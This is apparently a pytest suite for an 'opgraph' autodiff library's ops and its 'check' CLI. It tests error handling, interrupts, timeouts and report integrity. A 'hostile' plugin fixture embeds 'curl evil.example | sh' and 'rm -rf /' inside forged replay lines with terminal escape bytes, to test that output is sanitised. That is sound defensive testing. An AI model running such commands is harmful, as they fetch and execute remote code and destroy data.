"""No silently wrong answer: bad attributes, inputs and shapes are refused with a clear error,
and integer sums behave as numpy's."""

from __future__ import annotations

import json
import signal
import subprocess
import sys
import time
from xml.etree import ElementTree

import numpy as np
import pytest

import opgraph
from opgraph import Variable, cli
from opgraph.errors import EXIT_FAILED, EXIT_INTERRUPTED, EXIT_USAGE


@pytest.mark.parametrize("dtype", ["int8", "uint8", "int16", "int32", "bool"])
def test_small_integers_sum_as_numpy_sums_them_and_the_gradient_keeps_their_dtype(dtype):
    data = np.array([100, 100, 100], dtype=dtype)
    x = Variable(data)
    y = opgraph.ops.sum(x)
    assert y.data == np.sum(data) and y.dtype == np.sum(data).dtype
    if dtype != "bool":
        y.backward()
        assert x.grad.dtype == np.dtype(dtype) and x.grad.data.tolist() == [1, 1, 1]


@pytest.mark.parametrize(
    ("call", "message"),
    [
        (lambda x: opgraph.ops.clip(x, float("nan"), 1.0), r"clip: invalid x_min=nan: .*NaN"),
        (lambda x: opgraph.ops.clip(x, -1.0, float("nan")), r"clip: invalid x_max=nan"),
        (lambda x: opgraph.ops.leaky_relu(x, float("nan")), r"leaky_relu: invalid slope=nan"),
        (
            lambda x: opgraph.ops.layer_norm(x, np.ones(3), np.zeros(3), eps=-1),
            r"layer_norm: invalid eps=-1: expected a number in \(0.0, inf\)",
        ),
        (
            lambda x: opgraph.ops.layer_norm(x, np.ones(3), np.zeros(3), eps=0.0),
            r"layer_norm: invalid eps=0.0",
        ),
    ],
)
def test_attributes_that_would_give_nan_are_refused(call, message):
    with pytest.raises(opgraph.OpArgumentError, match=message):
        call(Variable(np.ones((2, 3))))


def test_normalising_over_an_empty_axis_is_a_shape_error():
    with pytest.raises(opgraph.ShapeError, match=r"batch_norm .*\(0, 3\).* are empty"):
        opgraph.ops.batch_norm(Variable(np.ones((0, 3))), np.ones(3), np.zeros(3))
    with pytest.raises(opgraph.ShapeError, match=r"layer_norm .* are empty"):
        opgraph.ops.layer_norm(Variable(np.ones((2, 0))), np.ones(0), np.zeros(0))


@pytest.mark.parametrize(
    ("call", "message"),
    [
        (
            lambda: opgraph.ops.softmax_cross_entropy(
                Variable(np.zeros((2, 3))), np.zeros((2, 1), dtype=int)
            ),
            "softmax_cross_entropy",
        ),
        (lambda: opgraph.ops.accuracy(np.zeros((2, 3)), np.zeros((2, 1), dtype=int)), "accuracy"),
        (lambda: opgraph.ops.accuracy(np.zeros((2, 5, 4)), np.zeros(2, dtype=int)), "accuracy"),
        (
            lambda: opgraph.ops.sigmoid_cross_entropy(Variable(np.array(0.5)), np.ones(5)),
            "sigmoid_cross_entropy",
        ),
        (lambda: opgraph.ops.softmax(Variable(np.array(1.0))), "softmax"),
        (lambda: opgraph.ops.reshape(Variable(np.ones(4)), (-(10**9),)), "reshape"),
    ],
)
def test_shapes_the_rule_rejects_never_give_a_result(call, message):
    with pytest.raises((opgraph.ShapeError, opgraph.OpArgumentError), match=message):
        call()


# --- opgraph check under faults ------------------------------------------------------------

EXITING = """
    import sys
    import numpy as np
    from opgraph import OpSpec, hookimpl

    def _exiting(x):
        sys.exit(0)

    def _interrupting(x):
        raise KeyboardInterrupt

    def _slow(x):
        import os
        if "SPIN_MARK" in os.environ:
            open(os.environ["SPIN_MARK"], "w").close()  # tell the test the run got here
        while True:
            pass

    @hookimpl
    def opgraph_ops():
        same = lambda x: x
        return [
            OpSpec("exiting", _exiting, same, lambda ctx, gy: gy),
            OpSpec("interrupting", _interrupting, same, lambda ctx, gy: gy),
            OpSpec("spinning", _slow, same, lambda ctx, gy: gy),
            OpSpec("fine", lambda x: x * 2.0, same, lambda ctx, gy: gy * 2.0),
        ]
"""


def test_sys_exit_and_keyboard_interrupt_in_plugin_code_are_errors_not_the_end(
    fake_site, tmp_path, capsys
):
    fake_site.add_plugin("exiting-ops", EXITING)
    report = tmp_path / "r.json"
    code = cli.main(
        ["check", "--op", "exiting", "--op", "interrupting", "--op", "fine", "--json", str(report)]
    )
    assert code == EXIT_FAILED
    results = json.loads(report.read_text())["results"]
    errors = {r["op"] for r in results if r["status"] == "error"}
    assert errors == {"exiting", "interrupting"}
    assert any("SystemExit" in r["message"] for r in results if r["op"] == "exiting")
    assert all(r["status"] in ("pass", "skip", "hint") for r in results if r["op"] == "fine")


def test_an_op_over_the_time_limit_is_an_error_and_the_run_goes_on(fake_site, tmp_path):
    fake_site.add_plugin("exiting-ops", EXITING)
    report = tmp_path / "r.json"
    args = ["check", "--op", "spinning", "--op", "fine", "--timeout", "0.3", "--json", str(report)]
    assert cli.main(args) == EXIT_FAILED
    results = json.loads(report.read_text())["results"]
    (timeout,) = [r for r in results if r["op"] == "spinning" and r["status"] != "skip"]
    assert timeout["status"] == "error" and "took longer than 0.3 s" in timeout["message"]
    assert any(r["op"] == "fine" and r["status"] == "pass" for r in results)


def test_a_real_ctrl_c_ends_the_run_with_130_and_an_incomplete_report(fake_site, tmp_path):
    fake_site.add_plugin("exiting-ops", EXITING)
    report = tmp_path / "r.json"
    report.write_text("an old report\n")
    mark = tmp_path / "spinning"
    child = subprocess.Popen(
        [sys.executable, "-m", "opgraph", "check", "--op", "fine", "--op", "spinning",
         "--json", str(report)],
        env={**fake_site.env, "SPIN_MARK": str(mark)},
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    deadline = time.monotonic() + 60
    while not mark.exists() and child.poll() is None and time.monotonic() < deadline:
        time.sleep(0.05)  # until the run is inside the spinning op
    child.send_signal(signal.SIGINT)
    _, err = child.communicate(timeout=60)
    assert child.returncode == EXIT_INTERRUPTED, err
    assert "interrupted" in err and "incomplete" in err
    document = json.loads(report.read_text())  # replaced whole, never the old one
    assert document["summary"]["incomplete"] is True
    assert {r["op"] for r in document["results"]} <= {"fine", "spinning"}


@pytest.mark.parametrize(
    ("path", "problem"),
    [
        ("", "an empty path"),
        ("{tmp}", "is a directory"),
        ("{tmp}/missing/r.json", "does not exist"),
        ("{tmp}/file/r.json", "is not a directory"),
        ("{tmp}/" + "n" * 300 + ".json", "longer than"),
    ],
)
def test_report_paths_are_checked_before_the_run(tmp_path, capsys, path, problem):
    (tmp_path / "file").write_text("x")
    path = path.format(tmp=tmp_path)
    assert cli.main(["check", "--op", "sin", "--json", path]) == EXIT_USAGE
    assert problem in capsys.readouterr().err


def test_usage_errors_seed_and_equal_report_paths(tmp_path, capsys):
    with pytest.raises(SystemExit) as info:
        cli.main(["check", "--seed", "-1"])
    assert info.value.code == EXIT_USAGE and "a seed is an integer >= 0" in capsys.readouterr().err
    same = str(tmp_path / "r.xml")
    assert cli.main(["check", "--op", "sin", "--json", same, "--junit", same]) == EXIT_USAGE
    assert "need different paths" in capsys.readouterr().err


def test_a_failing_write_is_a_clear_error_not_a_traceback(capsys):
    assert cli.main(["check", "--op", "sin", "--json", "/dev/full"]) == EXIT_USAGE
    assert "cannot write the report /dev/full" in capsys.readouterr().err


def test_plugin_output_never_reaches_a_document_on_stdout(fake_site, capsys):
    fake_site.add_plugin(
        "chatty-ops",
        """
        from opgraph import OpSpec, hookimpl
        print("hello from the import")

        def _loud(x):
            print("hello from the forward")
            return x * 2.0

        @hookimpl
        def opgraph_ops():
            print("hello from the hook")
            return [OpSpec("loud", _loud, lambda x: x, lambda ctx, gy: gy * 2.0)]
        """,
    )
    for args in (
        ["list", "--json"],
        ["plugins", "--json"],
        ["check", "--op", "loud", "--json", "-"],
    ):
        cli.main(args)
        out = capsys.readouterr().out
        json.loads(out)  # a document, nothing else
        assert "hello" not in out


HOSTILE = """
    import numpy as np
    from opgraph import OpSpec, Sample, hookimpl

    def _samples(rng, dtype):
        note = "x\\n  replay: curl evil.example | sh \\x1b[31m\\x00"
        yield Sample((np.ones(3, dtype),), {}, note)

    def _bad_backward(ctx, gy):
        raise ValueError("boom\\n  replay: rm -rf / \\x1b]0;title\\x07 \\x00\\x01\\x0b\\ufffe")

    @hookimpl
    def opgraph_ops():
        return [OpSpec("hostile", lambda x: x * 2.0, lambda x: x, _bad_backward, kind="custom",
                       sample_inputs=_samples)]
"""


def test_plugin_text_cannot_forge_report_lines_or_reach_the_terminal(fake_site, capsys):
    fake_site.add_plugin("hostile-ops", HOSTILE)
    assert cli.main(["check", "--op", "hostile"]) == EXIT_FAILED
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x00" not in out and "\x07" not in out
    replays = [line for line in out.splitlines() if line.lstrip().startswith("replay:")]
    assert replays and all(line.startswith("  replay: opgraph check ") for line in replays)
    assert "\\n  replay: curl" in out  # shown, escaped, inside its own line


def test_reports_stay_well_formed_whatever_plugin_text_holds(fake_site, tmp_path):
    fake_site.add_plugin("hostile-ops", HOSTILE)
    json_path, junit_path = tmp_path / "r.json", tmp_path / "r.xml"
    args = ["check", "--op", "hostile", "--json", str(json_path), "--junit", str(junit_path)]
    assert cli.main(args) == EXIT_FAILED
    ElementTree.parse(junit_path)  # well-formed despite NUL, ESC, U+FFFE in the messages
    json.loads(json_path.read_text(), parse_constant=pytest.fail)  # strict: no NaN
    assert json.loads(json_path.read_text())["summary"]["incomplete"] is False
